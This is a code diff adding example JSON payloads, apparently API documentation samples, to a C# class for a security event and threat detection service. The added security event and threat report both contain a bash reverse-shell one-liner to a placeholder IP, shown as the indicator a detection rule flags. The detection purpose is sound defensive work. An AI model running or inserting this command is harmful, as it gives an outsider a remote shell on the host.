@@ -28,6 +28,19 @@ internal static class Examples
             {"text":"rules:\n  - id: night\n    when: night == 1 and amountZ > 3\n    weight: 0.6\n    reason: At night\n"}
             """,
         [typeof(RuleChoice)] = """{"version":"5b1f0a9c77d2"}""",
+        [typeof(SecurityEventBatch)] = """
+            {"events":[{"id":"ev-000001","time":"2026-01-31T12:00:00Z","kind":"process","source":{"product":"linux"},"user":"ann",
+             "host":"web-1","fields":{"Image":"/bin/bash","CommandLine":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}}]}
+            """,
+        [typeof(ThreatReport)] = """
+            {"threats":[{"id":"0f8e1c5a9b3d4e7fa1b2c3d4e5f60718","type":"execution","severity":"critical","confidence":0.75,
+             "source":"sigma","rule":{"title":"A shell is connected to the network","id":"cecc1367-517c-412d-843d-2fb2aa69f0b5",
+             "author":"Platform","license":"Apache-2.0"},"entity":{"kind":"user","id":"ann"},"eventId":"ev-000001",
+             "indicators":[{"name":"CommandLine","text":"CommandLine is what the rule looks for.",
+             "value":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}],
+             "recommendedActions":["Stop the process if nobody owns it."],"attackTechniques":["T1059.004"],
+             "detectedAt":"2026-01-31T12:00:00Z"}]}
+            """,
         [typeof(ImportRequest)] = """{"file":"2026/payments.csv.gz","mapping":"fraud-handbook","id":"history2026"}""",
         [typeof(Import)] = ImportJson,
         [typeof(ImportPage)] = $$"""{"items":[{{ImportJson}}]}""",
